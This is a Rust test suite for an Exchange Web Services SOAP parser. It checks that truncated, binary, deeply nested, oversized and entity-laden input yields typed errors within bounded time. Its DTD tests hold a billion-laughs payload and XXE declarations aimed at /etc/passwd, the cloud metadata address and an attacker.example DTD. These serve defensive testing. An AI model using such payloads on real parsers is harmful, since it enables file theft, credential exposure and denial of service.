#![cfg(not(target_arch = "wasm32"))]
//! Hostile and broken input: nothing panics, every failure is a typed error
//! with a stable code, every cost is bounded, and the library keeps working.
//!
//! Each test hands the same input to all four parsers. Timings are measured and
//! printed; the asserted bounds are generous (debug builds, a shared machine).
//! Tests assert codes and error fields, never message text.

use std::time::{Duration, Instant};

use ews_wasm::{
    parse_get_conversation_items_response_with, parse_get_im_item_list_response,
    parse_get_im_item_list_response_with, parse_get_im_items_response_with,
    parse_sync_folder_items_response, parse_sync_folder_items_response_with, Error, Limits,
    SyncChange,
};

// ---------------------------------------------------------------------------
// helpers

fn fixture(name: &str) -> String {
    let path = format!("{}/tests/fixtures/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

const SOAP: &str = "http://schemas.xmlsoap.org/soap/envelope/";
const M: &str = "http://schemas.microsoft.com/exchange/services/2006/messages";
const T: &str = "http://schemas.microsoft.com/exchange/services/2006/types";

/// A SyncFolderItems response whose single Create Message holds `inner` (item
/// children) and whose envelope is preceded by `prolog`.
fn sfi_with(prolog: &str, inner: &str) -> String {
    format!(
        r#"{prolog}<s:Envelope xmlns:s="{SOAP}"><s:Body><m:SyncFolderItemsResponse xmlns:m="{M}" xmlns:t="{T}"><m:ResponseMessages><m:SyncFolderItemsResponseMessage ResponseClass="Success"><m:ResponseCode>NoError</m:ResponseCode><m:SyncState>AAA=</m:SyncState><m:IncludesLastItemInRange>true</m:IncludesLastItemInRange><m:Changes><t:Create><t:Message><t:ItemId Id="AAMk1" ChangeKey="CQ1"/>{inner}</t:Message></t:Create></m:Changes></m:SyncFolderItemsResponseMessage></m:ResponseMessages></m:SyncFolderItemsResponse></s:Body></s:Envelope>"#
    )
}

/// The four parsers' outcomes, as `Ok(serialized JSON)` or the error.
/// Every successful result must serialize (what the JS layer does next).
fn all_four_with(xml: &str, limits: &Limits) -> [Result<String, Error>; 4] {
    fn ser<T: serde::Serialize>(r: Result<T, Error>) -> Result<String, Error> {
        r.map(|v| serde_json::to_string(&v).expect("a result always serializes"))
    }
    [
        ser(parse_sync_folder_items_response_with(xml, limits)),
        ser(parse_get_conversation_items_response_with(xml, limits)),
        ser(parse_get_im_items_response_with(xml, limits)),
        ser(parse_get_im_item_list_response_with(xml, limits)),
    ]
}

fn all_four(xml: &str) -> [Result<String, Error>; 4] {
    all_four_with(xml, &Limits::default())
}

/// What identifies an error for these tests: its code and its fields, not its message.
fn identity(e: &Error) -> String {
    match e {
        Error::MalformedXml { position, .. } => format!("{} at {position}", e.code()),
        Error::NotSoap { found, .. } => format!("{} found {found}", e.code()),
        other => format!("{other:?}"),
    }
}

/// The error all four parsers agree on: for input that is not a well-formed
/// response of any operation, the operation must not matter.
fn same_error(xml: &str) -> Error {
    same_error_with(xml, &Limits::default())
}

/// [`same_error`] with other limits (`strict`).
fn same_error_with(xml: &str, limits: &Limits) -> Error {
    let [a, b, c, d] = all_four_with(xml, limits);
    let a = a.expect_err("must fail");
    for other in [b, c, d] {
        assert_eq!(identity(&other.expect_err("must fail")), identity(&a));
    }
    a
}

fn sfi_error(xml: &str) -> Error {
    parse_sync_folder_items_response(xml).expect_err("must fail")
}

fn malformed_at(e: &Error) -> u64 {
    match e {
        Error::MalformedXml { position, .. } => *position,
        other => panic!("expected ERR_MALFORMED_XML, got {other:?}"),
    }
}

fn not_soap_found(e: &Error) -> &str {
    match e {
        Error::NotSoap { found, .. } => found,
        other => panic!("expected ERR_NOT_SOAP, got {other:?}"),
    }
}

/// After hostile input the library still parses a valid response (it is pure,
/// but assert it anyway: in wasm a panic would poison the instance).
fn still_works() {
    let r = parse_sync_folder_items_response(&fixture("seed-sfi-response.xml")).unwrap();
    assert_eq!(
        r.response_messages[0].sync_state.as_deref(),
        Some("H4sIAAAAA=")
    );
    let r = parse_get_im_item_list_response(&fixture("seed-imitemlist-response.xml")).unwrap();
    assert_eq!(r.message.im_item_list.unwrap().personas.unwrap().len(), 2);
}

fn timed<R>(what: &str, f: impl FnOnce() -> R) -> (R, Duration) {
    let t = Instant::now();
    let r = f();
    let d = t.elapsed();
    println!("{what}: {d:?}");
    (r, d)
}

/// xorshift64*: deterministic pseudo-random bytes without a dependency.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
    fn bytes(&mut self, n: usize) -> Vec<u8> {
        (0..n).map(|_| self.next() as u8).collect()
    }
}

const SEEDS: [&str; 8] = [
    "seed-sfi-response.xml",
    "seed-sfi-error.xml",
    "seed-gci-response.xml",
    "seed-gci-error.xml",
    "seed-imitems-response.xml",
    "seed-imitemlist-response.xml",
    "seed-imitemlist-fault.xml",
    "sfi-interleaved-all-kinds.xml",
];

// ---------------------------------------------------------------------------
// not XML at all

#[test]
fn html_login_page_is_malformed() {
    let e = same_error(&fixture("html-login-page.html"));
    assert_eq!(e.code(), "ERR_MALFORMED_XML");
    still_works();
}

#[test]
fn json_error_body_is_malformed_at_byte_0() {
    let e = same_error(&fixture("json-error.json"));
    assert_eq!(malformed_at(&e), 0);
    still_works();
}

#[test]
fn empty_and_whitespace_bodies_are_malformed() {
    for body in ["", " ", "\n", "\r\n\t  \n", "\u{feff}", "\u{feff}  \n"] {
        let e = same_error(body);
        assert_eq!(e.code(), "ERR_MALFORMED_XML", "{body:?}");
        assert!(malformed_at(&e) <= body.len() as u64);
    }
    // Only a declaration or a comment: still no element.
    for body in [
        "<?xml version=\"1.0\"?>",
        "<!-- nothing -->",
        "<?xml version=\"1.0\"?>\n<!-- x -->\n",
    ] {
        assert_eq!(same_error(body).code(), "ERR_MALFORMED_XML", "{body:?}");
    }
    still_works();
}

#[test]
fn plain_text_and_truncated_fixture_are_malformed() {
    for body in [
        "Service Unavailable",
        "HTTP/1.1 503 Service Unavailable",
        "<",
        "<<<<",
        "<s:Envelope",
        "</s:Envelope>",
        "<![CDATA[x]]>",
        "&amp;",
    ] {
        assert_eq!(same_error(body).code(), "ERR_MALFORMED_XML", "{body:?}");
    }
    let t = fixture("truncated.xml");
    let e = sfi_error(&t);
    let at = malformed_at(&e);
    assert!(at <= t.len() as u64 && at > 4000, "{at}");
    still_works();
}

// ---------------------------------------------------------------------------
// truncation of every seed at every 97th byte

#[test]
fn truncations_of_every_seed_at_every_97th_byte_are_errors() {
    let mut cuts = 0;
    for name in SEEDS {
        let xml = fixture(name);
        let root_end = xml.rfind("</").unwrap();
        let mut at = 0;
        while at < xml.len() {
            if xml.is_char_boundary(at) {
                let cut = &xml[..at];
                cuts += 1;
                for r in all_four(cut) {
                    match r {
                        Err(e) => {
                            // A prefix of a document can never be a different kind of document.
                            assert_eq!(e.code(), "ERR_MALFORMED_XML", "{name} cut at {at}: {e:?}");
                            assert!(malformed_at(&e) <= at as u64, "{name} cut at {at}: {e:?}");
                        }
                        Ok(_) => assert!(at > root_end, "{name} cut at {at} parsed"),
                    }
                }
            }
            at += 97;
        }
    }
    assert!(cuts > 400, "{cuts}");
    still_works();
}

#[test]
fn truncations_at_every_byte_of_a_small_seed_are_errors() {
    let xml = fixture("seed-sfi-error.xml");
    let end = xml.trim_end().len();
    for at in (0..end).filter(|&i| xml.is_char_boundary(i)) {
        let e = sfi_error(&xml[..at]);
        assert_eq!(e.code(), "ERR_MALFORMED_XML", "cut at {at}");
    }
    assert!(parse_sync_folder_items_response(&xml[..end]).is_ok());
    still_works();
}

// ---------------------------------------------------------------------------
// binary garbage and NUL bytes

#[test]
fn binary_garbage_never_panics() {
    let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
    let seed = fixture("seed-sfi-response.xml");
    let mut outcomes = std::collections::BTreeMap::new();
    for round in 0..600 {
        let len = [0, 1, 7, 64, 512, 4096][round % 6] + rng.below(64);
        let garbage = String::from_utf8_lossy(&rng.bytes(len)).into_owned();
        // Pure garbage, garbage inside an envelope, and a seed with garbage spliced in.
        let spliced = {
            let at = rng.below(seed.len());
            let at = (0..=at)
                .rev()
                .find(|&i| seed.is_char_boundary(i))
                .unwrap_or(0);
            format!("{}{}{}", &seed[..at], garbage, &seed[at..])
        };
        for input in [garbage.clone(), sfi_with("", &garbage), spliced] {
            for r in all_four(&input) {
                let code = match &r {
                    Ok(_) => "ok",
                    Err(e) => e.code(),
                };
                assert!(
                    matches!(
                        code,
                        "ok" | "ERR_MALFORMED_XML"
                            | "ERR_NOT_SOAP"
                            | "ERR_LIMIT"
                            | "ERR_SOAP_FAULT"
                    ),
                    "{code}"
                );
                *outcomes.entry(code).or_insert(0) += 1;
            }
        }
    }
    println!("{outcomes:?}");
    assert!(outcomes["ERR_MALFORMED_XML"] > 1000);
    still_works();
}

#[test]
fn nul_and_control_characters_are_malformed_at_their_position() {
    let seed = fixture("seed-sfi-response.xml");
    let strict = Limits {
        strict: true,
        ..Limits::default()
    };
    for (needle, bad) in [
        ("Budget Q3", "Budget\0Q3"),
        ("Budget Q3", "Budget\u{1}Q3"),
        ("Budget Q3", "Budget\u{1b}[31mQ3"),
        ("Conference Room 2", "Conference\u{8}Room 2"),
    ] {
        let xml = seed.replacen(needle, bad, 1);
        let at = xml
            .find(|c: char| c < ' ' && !matches!(c, '\t' | '\n' | '\r'))
            .unwrap();
        let e = same_error_with(&xml, &strict);
        assert_eq!(malformed_at(&e), at as u64, "{bad:?}");
    }
    // NUL anywhere: before the document, in a tag name, in an attribute, in a
    // comment, in text; strict or not (a NUL byte means the body is not text).
    for xml in [
        format!("\0{seed}"),
        seed.replacen("<soap:Body>", "<soap:Bo\0dy>", 1),
        seed.replacen("Id=\"AQApAHRwA==\"", "Id=\"AQA\0pAHRwA==\"", 1),
        seed.replacen("<!-- Provenance", "<!-- \0 Provenance", 1),
        "\0\0\0\0".to_owned(),
    ] {
        for limits in [&Limits::default(), &strict] {
            let e = same_error_with(&xml, limits);
            assert_eq!(malformed_at(&e), xml.find('\0').unwrap() as u64);
        }
    }
    // By default other control characters are let through, a NUL after them is not.
    let xml = seed.replacen("Budget Q3", "Budget\u{1}Q3\0", 1);
    assert_eq!(
        malformed_at(&same_error(&xml)),
        xml.find('\0').unwrap() as u64
    );
    // U+FFFE / U+FFFF are not XML characters either.
    let e = same_error_with(&seed.replacen("Budget Q3", "Budget \u{fffe}", 1), &strict);
    assert_eq!(e.code(), "ERR_MALFORMED_XML");
    still_works();
}

#[test]
fn raw_control_characters_are_read_in_values_and_refused_in_names() {
    let seed = fixture("seed-sfi-response.xml");
    let subject = |xml: &str| {
        let r = parse_sync_folder_items_response(xml).expect("read, not refused");
        let changes = r.response_messages[0].changes.as_ref().unwrap();
        changes.iter().find_map(|c| match c {
            SyncChange::Create { item } => item.subject().map(str::to_owned),
            _ => None,
        })
    };
    for bad in ["\u{1}", "\u{1b}[31m", "\u{8}", "\u{fffe}", "\u{ffff}"] {
        let xml = seed.replacen("Budget Q3", &format!("Budget{bad}Q3"), 1);
        assert_eq!(subject(&xml).as_deref(), Some(&*format!("Budget{bad}Q3")));
        // In an attribute value too.
        let xml = seed.replacen("Id=\"AQApAHRwA==\"", &format!("Id=\"AQA{bad}\""), 1);
        assert!(parse_sync_folder_items_response(&xml).is_ok(), "{bad:?}");
    }
    // In a name it is not an odd character in a value but broken markup.
    for xml in [
        seed.replacen("<t:Subject>", "<t:Sub\u{1}ject>", 1)
            .replacen("</t:Subject>", "</t:Sub\u{1}ject>", 1),
        seed.replacen("Id=\"AQApAHRwA==\"", "I\u{1}d=\"AQApAHRwA==\"", 1),
    ] {
        assert_eq!(same_error(&xml).code(), "ERR_MALFORMED_XML");
    }
    still_works();
}

// ---------------------------------------------------------------------------
// limits: depth and size

#[test]
fn deep_nesting_hits_max_depth_fast() {
    let n = 100_000;
    let bare = "<a>".repeat(n) + &"</a>".repeat(n);
    let inside = sfi_with("", &("<t:Deep>".repeat(n) + &"</t:Deep>".repeat(n)));
    let unclosed = "<a>".repeat(n);
    // Not an envelope, but whether it is well-formed cannot be told without
    // going deeper than the limit: the limit is what is reported.
    for (what, xml) in [
        ("bare", &bare),
        ("inside an item", &inside),
        ("unclosed", &unclosed),
    ] {
        let (e, d) = timed(&format!("100 000 deep, {what}"), || same_error(xml));
        assert!(d < Duration::from_secs(5), "{d:?}");
        assert_eq!(
            e,
            Error::Limit {
                name: "maxDepth",
                limit: 256,
                value: 257
            },
            "{what}"
        );
    }
    // Just under the limit and not SOAP: that is known, and said.
    let shallow = "<a>".repeat(256) + &"</a>".repeat(256);
    assert_eq!(not_soap_found(&same_error(&shallow)), "a");
    // Deep inside an envelope whose root is not yet known to be wrong: the
    // Envelope's children are read before anything is refused.
    let deep_header = format!(
        r#"<s:Envelope xmlns:s="{SOAP}"><s:Header>{}{}</s:Header></s:Envelope>"#,
        "<x>".repeat(n),
        "</x>".repeat(n)
    );
    let e = same_error(&deep_header);
    assert!(
        matches!(
            e,
            Error::Limit {
                name: "maxDepth",
                limit: 256,
                value: 257
            }
        ),
        "{e:?}"
    );
    // A lower configured limit is honoured, and exactly at the limit is fine.
    let limits = Limits {
        max_depth: 40,
        ..Limits::default()
    };
    let at = |depth: usize| {
        // Envelope, Body, Response, ResponseMessages, Message, Changes, Create, Message = 8.
        let extra = depth - 8;
        sfi_with("", &("<t:X>".repeat(extra) + &"</t:X>".repeat(extra)))
    };
    assert!(parse_sync_folder_items_response_with(&at(40), &limits).is_ok());
    assert_eq!(
        parse_sync_folder_items_response_with(&at(41), &limits).unwrap_err(),
        Error::Limit {
            name: "maxDepth",
            limit: 40,
            value: 41
        }
    );
    still_works();
}

#[test]
fn nested_item_attachments_to_the_depth_limit_fit_a_small_stack() {
    // Items recurse through ItemAttachment; the depth limit bounds that recursion.
    // Run on a 1 MiB stack, wasm's default, at every nesting up to past the limit.
    let handle = std::thread::Builder::new()
        .stack_size(1 << 20)
        .spawn(|| {
            let mut outcomes = Vec::new();
            for levels in [1usize, 10, 40, 61, 62, 63, 64, 100] {
                let mut inner = String::from("<t:Subject>x</t:Subject>");
                for _ in 0..levels {
                    inner = format!(
                        "<t:Attachments><t:ItemAttachment><t:Name>a</t:Name><t:Message>{inner}</t:Message></t:ItemAttachment></t:Attachments>"
                    );
                }
                let xml = sfi_with("", &inner);
                let codes: Vec<&str> = all_four(&xml)
                    .iter()
                    .map(|r| r.as_ref().map(|_| "ok").unwrap_or_else(|e| e.code()))
                    .collect();
                outcomes.push((levels, codes[0]));
            }
            outcomes
        })
        .unwrap();
    let outcomes = handle.join().expect("no stack overflow");
    println!("{outcomes:?}");
    assert_eq!(outcomes[0], (1, "ok"));
    assert_eq!(outcomes[2], (40, "ok"));
    assert_eq!(outcomes.last(), Some(&(100, "ERR_LIMIT")));
    still_works();
}

#[test]
fn responses_over_max_response_bytes_are_refused_before_parsing() {
    let big = "x".repeat(100 * 1024 * 1024);
    let (e, d) = timed("100 MB string", || same_error(&big));
    assert_eq!(
        e,
        Error::Limit {
            name: "maxResponseBytes",
            limit: 64 * 1024 * 1024,
            value: big.len() as u64
        }
    );
    assert!(d < Duration::from_secs(5));
    drop(big);
    // Exactly at a configured limit passes; one byte over does not.
    let xml = fixture("seed-sfi-response.xml");
    let exact = Limits {
        max_response_bytes: xml.len() as u64,
        ..Limits::default()
    };
    assert!(parse_sync_folder_items_response_with(&xml, &exact).is_ok());
    let under = Limits {
        max_response_bytes: xml.len() as u64 - 1,
        ..Limits::default()
    };
    assert_eq!(
        parse_sync_folder_items_response_with(&xml, &under).unwrap_err(),
        Error::Limit {
            name: "maxResponseBytes",
            limit: xml.len() as u64 - 1,
            value: xml.len() as u64
        }
    );
    still_works();
}

#[test]
fn a_20_mb_text_value_parses_in_bounded_time_with_a_raised_limit() {
    let body: String = "Zürich & <draft> 🚀 ".repeat(20 * 1024 * 1024 / 24);
    let escaped = body
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;");
    let xml = sfi_with(
        "",
        &format!(r#"<t:Subject>big</t:Subject><t:Body BodyType="Text">{escaped}</t:Body>"#),
    );
    assert!(xml.len() > 20 * 1024 * 1024);
    let limits = Limits {
        max_response_bytes: 256 * 1024 * 1024,
        ..Limits::default()
    };
    let (r, d) = timed("20 MB text value", || {
        parse_sync_folder_items_response_with(&xml, &limits)
    });
    let r = r.unwrap();
    let change = &r.response_messages[0].changes.as_ref().unwrap()[0];
    let ews_wasm::SyncChange::Create { item } = change else {
        panic!("{change:?}")
    };
    let ews_wasm::types::Item::Message(m) = item else {
        panic!("{item:?}")
    };
    assert_eq!(m.item.body.as_ref().unwrap().value, body);
    assert!(d < Duration::from_secs(60), "{d:?}");
    // The default limit refuses it only if it is over 64 MiB: it is not.
    assert!(parse_sync_folder_items_response(&xml).is_ok());
    still_works();
}

#[test]
fn a_50_mb_attribute_value_with_a_raised_limit() {
    let id = "A".repeat(50 * 1024 * 1024);
    let xml = sfi_with("", "").replacen("Id=\"AAMk1\"", &format!("Id=\"{id}\""), 1);
    let limits = Limits {
        max_response_bytes: 128 * 1024 * 1024,
        ..Limits::default()
    };
    let (r, d) = timed("50 MB attribute", || {
        parse_sync_folder_items_response_with(&xml, &limits)
    });
    let r = r.unwrap();
    let change = &r.response_messages[0].changes.as_ref().unwrap()[0];
    assert_eq!(change.item_id().unwrap().id.len(), id.len());
    assert!(d < Duration::from_secs(60), "{d:?}");
    // With the default limit, the same document is refused by size.
    let e = parse_sync_folder_items_response(&xml.repeat(2)).unwrap_err();
    assert!(matches!(
        e,
        Error::Limit {
            name: "maxResponseBytes",
            ..
        }
    ));
    still_works();
}

#[test]
fn many_siblings_parse_in_linear_time() {
    let change = r#"<t:Delete><t:ItemId Id="AAMkAD" ChangeKey="CQ"/></t:Delete>"#;
    let xml = sfi_with("", "").replacen(
        "<m:Changes>",
        &format!("<m:Changes>{}", change.repeat(100_000)),
        1,
    );
    let (r, d) = timed("100 000 changes", || parse_sync_folder_items_response(&xml));
    assert_eq!(
        r.unwrap().response_messages[0]
            .changes
            .as_ref()
            .unwrap()
            .len(),
        100_001
    );
    assert!(d < Duration::from_secs(30), "{d:?}");
}

// ---------------------------------------------------------------------------
// DTDs and entities: nothing is ever expanded

const BILLION_LAUGHS: &str = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ELEMENT lolz (#PCDATA)>
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
"#;

#[test]
fn billion_laughs_is_refused_without_expansion() {
    let bare = format!("{BILLION_LAUGHS}<lolz>&lol9;</lolz>");
    let in_envelope = sfi_with(BILLION_LAUGHS, "<t:Subject>&lol9;</t:Subject>");
    for xml in [bare, in_envelope] {
        let (e, d) = timed("billion laughs", || same_error(&xml));
        assert_eq!(not_soap_found(&e), "!DOCTYPE");
        assert!(d < Duration::from_secs(5), "{d:?}");
    }
    // Without the DTD, the references are simply undefined entities.
    let e = same_error(&sfi_with("", "<t:Subject>&lol9;</t:Subject>"));
    assert_eq!(e.code(), "ERR_MALFORMED_XML");
    still_works();
}

#[test]
fn external_entities_are_refused_without_fetching() {
    for dtd in [
        r#"<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"#,
        r#"<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>"#,
        r#"<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://attacker.example/evil.dtd"> %xxe;]>"#,
        r#"<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd">"#,
    ] {
        let xml = sfi_with(dtd, "<t:Subject>&xxe;</t:Subject>");
        let (e, d) = timed("XXE", || same_error(&xml));
        assert_eq!(not_soap_found(&e), "!DOCTYPE", "{dtd}");
        assert!(d < Duration::from_secs(5));
        let json = format!("{e:?}");
        assert!(
            !json.contains("root:"),
            "nothing was read from the file system"
        );
    }
    still_works();
}

#[test]
fn a_doctype_before_a_valid_envelope_is_not_soap() {
    let seed = fixture("seed-sfi-response.xml");
    let decl_end = seed.find("?>").unwrap() + 2;
    for dtd in [
        "<!DOCTYPE soap:Envelope>",
        "<!DOCTYPE soap:Envelope [<!ENTITY x \"y\">]>",
        "<!DOCTYPE html>",
    ] {
        let xml = format!("{}\n{dtd}{}", &seed[..decl_end], &seed[decl_end..]);
        let e = same_error(&xml);
        assert_eq!(not_soap_found(&e), "!DOCTYPE", "{dtd}");
    }
    // Without it, the same document parses.
    assert!(parse_sync_folder_items_response(&seed).is_ok());
    still_works();
}

#[test]
fn undefined_entities_are_malformed_wherever_they_are() {
    let seed = fixture("seed-sfi-response.xml");
    for bad in [
        // in a field that is read
        seed.replacen("Budget Q3", "Budget &nbsp; Q3", 1),
        // in a field that is kept verbatim or skipped
        seed.replacen(
            "<t:Subject>",
            "<t:FutureField>&copy;</t:FutureField><t:Subject>",
            1,
        ),
        seed.replacen(
            "<soap:Header>",
            "<soap:Header><x:Other xmlns:x=\"urn:x\">&eacute;</x:Other>",
            1,
        ),
        // in an attribute value that is read
        seed.replacen("Id=\"AQApAHRwA==\"", "Id=\"AQApAHRwA&foo;==\"", 1),
        // in an attribute no field takes
        seed.replacen("<t:Subject>", "<t:Subject Future=\"&bar;\">", 1),
        // in MessageXml
        fixture("sfi-error-backoff.xml").replacen(">29794<", ">&x;<", 1),
        // an entity name that is not even a name
        seed.replacen("Budget Q3", "Budget &; Q3", 1),
        seed.replacen("Budget Q3", "Budget & Q3", 1),
        seed.replacen("Budget Q3", "Budget &amp Q3", 1),
    ] {
        assert_eq!(same_error(&bad).code(), "ERR_MALFORMED_XML");
    }
    // The five predefined entities and character references are fine.
    let ok = seed.replacen("Budget Q3", "&lt;&gt;&amp;&apos;&quot;&#65;&#x1F680;", 1);
    let r = parse_sync_folder_items_response(&ok).unwrap();
    let item = match &r.response_messages[0].changes.as_ref().unwrap()[0] {
        ews_wasm::SyncChange::Create { item } => item,
        other => panic!("{other:?}"),
    };
    assert_eq!(item.subject(), Some("<>&'\"A🚀"));
    still_works();
}

#[test]
fn invalid_character_references_are_malformed() {
    let seed = fixture("seed-sfi-response.xml");
    let strict = Limits {
        strict: true,
        ..Limits::default()
    };
    let places = |r: &str| {
        [
            seed.replacen("Budget Q3", &format!("Budget {r} Q3"), 1),
            seed.replacen("Id=\"AQApAHRwA==\"", &format!("Id=\"AQA{r}\""), 1),
            seed.replacen(
                "<t:Subject>",
                &format!("<t:Unmodelled>{r}</t:Unmodelled><t:Subject>"),
                1,
            ),
            seed.replacen("<t:Subject>", &format!("<t:Subject Extra=\"{r}\">"), 1),
        ]
    };
    // References to characters XML forbids: refused with `strict`; by default
    // read as the character (C0 controls, U+FFFE, U+FFFF) or as U+FFFD.
    for (r, read_as) in [
        ("&#0;", '\u{FFFD}'),
        ("&#x0;", '\u{FFFD}'),
        ("&#xD800;", '\u{FFFD}'),
        ("&#xDFFF;", '\u{FFFD}'),
        ("&#55296;", '\u{FFFD}'),
        ("&#x110000;", '\u{FFFD}'),
        ("&#99999999999999999999;", '\u{FFFD}'),
        ("&#xFFFE;", '\u{FFFE}'),
        ("&#xFFFF;", '\u{FFFF}'),
        ("&#1;", '\u{1}'),
        ("&#x1B;", '\u{1B}'),
        ("&#x13;", '\u{13}'),
    ] {
        for xml in places(r) {
            let e = same_error_with(&xml, &strict);
            assert_eq!(e.code(), "ERR_MALFORMED_XML", "{r}");
            for result in all_four(&xml).into_iter().skip(1) {
                // Not the other operations' responses, but not malformed either.
                assert_eq!(result.unwrap_err().code(), "ERR_NOT_SOAP", "{r}");
            }
        }
        let parsed = parse_sync_folder_items_response(&places(r)[0]).expect("read, not refused");
        let json = serde_json::to_string(&parsed).unwrap();
        let subject = serde_json::to_string(&format!("Budget {read_as} Q3")).unwrap();
        assert!(json.contains(&subject), "{r}: {subject} not in the result");
    }
    // A reference that is not a number is malformed either way.
    for r in ["&#x;", "&#;", "&#xZZ;", "&#-1;", "&#X41;", "&#12a;"] {
        for xml in places(r) {
            for limits in [&Limits::default(), &strict] {
                let e = same_error_with(&xml, limits);
                assert_eq!(e.code(), "ERR_MALFORMED_XML", "{r}");
            }
        }
    }
    // Allowed characters by reference: tab, LF, CR, and the top of the range.
    let ok = seed.replacen("Budget Q3", "a&#9;b&#xA;c&#13;d&#x10FFFF;", 1);
    assert!(parse_sync_folder_items_response_with(&ok, &strict).is_ok());
    assert!(parse_sync_folder_items_response(&ok).is_ok());
    still_works();
}

// ---------------------------------------------------------------------------
// envelopes that are wrong in shape

#[test]
fn soap_1_2_fault_is_a_soap_fault() {
    let xml = r#"<?xml version="1.0" encoding="utf-8"?>
<env:Envelope xmlns:env="http://www.w3.org/2003/05/soap-envelope">
  <env:Body>
    <env:Fault>
      <env:Code>
        <env:Value>env:Receiver</env:Value>
        <env:Subcode><env:Value xmlns:a="http://schemas.microsoft.com/exchange/services/2006/types">a:ErrorServerBusy</env:Value></env:Subcode>
      </env:Code>
      <env:Reason><env:Text xml:lang="en-US">The server cannot service this request right now.</env:Text></env:Reason>
      <env:Role>https://mail.contoso.com/EWS/Exchange.asmx</env:Role>
      <env:Detail>
        <e:ResponseCode xmlns:e="http://schemas.microsoft.com/exchange/services/2006/errors">ErrorServerBusy</e:ResponseCode>
        <t:MessageXml xmlns:t="http://schemas.microsoft.com/exchange/services/2006/types"><t:Value Name="BackOffMilliseconds">1200</t:Value></t:MessageXml>
      </env:Detail>
    </env:Fault>
  </env:Body>
</env:Envelope>"#;
    let e = same_error(xml);
    let Error::SoapFault(f) = e else {
        panic!("{e:?}")
    };
    assert_eq!(f.fault_code, "env:Receiver");
    assert_eq!(
        f.fault_string,
        "The server cannot service this request right now."
    );
    assert_eq!(
        f.fault_actor.as_deref(),
        Some("https://mail.contoso.com/EWS/Exchange.asmx")
    );
    assert_eq!(f.response_code.as_deref(), Some("ErrorServerBusy"));
    assert_eq!(f.back_off_milliseconds, Some(1200));
    still_works();
}

#[test]
fn a_fault_without_detail_still_names_its_code() {
    let xml = format!(
        r#"<s:Envelope xmlns:s="{SOAP}"><s:Body><s:Fault><faultcode>a:ErrorInternalServerError</faultcode><faultstring>boom</faultstring></s:Fault></s:Body></s:Envelope>"#
    );
    let Error::SoapFault(f) = same_error(&xml) else {
        panic!()
    };
    assert_eq!(f.fault_code, "a:ErrorInternalServerError");
    assert_eq!(f.response_code.as_deref(), Some("ErrorInternalServerError"));
    assert_eq!(f.fault_string, "boom");
    // An empty Fault element is still a Fault.
    let xml = format!(r#"<s:Envelope xmlns:s="{SOAP}"><s:Body><s:Fault/></s:Body></s:Envelope>"#);
    assert_eq!(same_error(&xml).code(), "ERR_SOAP_FAULT");
    still_works();
}

#[test]
fn envelopes_without_a_usable_body_are_not_soap() {
    let cases = [
        // no Body
        (format!(r#"<s:Envelope xmlns:s="{SOAP}"/>"#), "Envelope"),
        (
            format!(r#"<s:Envelope xmlns:s="{SOAP}"></s:Envelope>"#),
            "Envelope",
        ),
        (
            format!(
                r#"<s:Envelope xmlns:s="{SOAP}"><s:Header><t:ServerVersionInfo xmlns:t="{T}" MajorVersion="15"/></s:Header></s:Envelope>"#
            ),
            "Envelope",
        ),
        // an empty Body
        (
            format!(r#"<s:Envelope xmlns:s="{SOAP}"><s:Body/></s:Envelope>"#),
            "Body",
        ),
        (
            format!(r#"<s:Envelope xmlns:s="{SOAP}"><s:Body>  </s:Body></s:Envelope>"#),
            "Body",
        ),
        // a Body in no namespace or the wrong one
        (
            format!(r#"<s:Envelope xmlns:s="{SOAP}"><Body/></s:Envelope>"#),
            "Envelope",
        ),
        // an Envelope that is not SOAP's
        (r#"<Envelope><Body/></Envelope>"#.to_owned(), "Envelope"),
        (
            r#"<s:Envelope xmlns:s="urn:not-soap"><s:Body/></s:Envelope>"#.to_owned(),
            "{urn:not-soap}Envelope",
        ),
        // a Body as the root
        (
            format!(r#"<s:Body xmlns:s="{SOAP}"/>"#),
            "{http://schemas.xmlsoap.org/soap/envelope/}Body",
        ),
        // the response element without an envelope
        (
            format!(r#"<m:SyncFolderItemsResponse xmlns:m="{M}"/>"#),
            "{http://schemas.microsoft.com/exchange/services/2006/messages}SyncFolderItemsResponse",
        ),
        // the response element in a namespace that is not EWS
        (
            format!(
                r#"<s:Envelope xmlns:s="{SOAP}"><s:Body><x:SyncFolderItemsResponse xmlns:x="urn:x"/></s:Body></s:Envelope>"#
            ),
            "SyncFolderItemsResponse",
        ),
    ];
    for (xml, found) in cases {
        let e = parse_sync_folder_items_response(&xml).unwrap_err();
        assert_eq!(not_soap_found(&e), found, "{xml}");
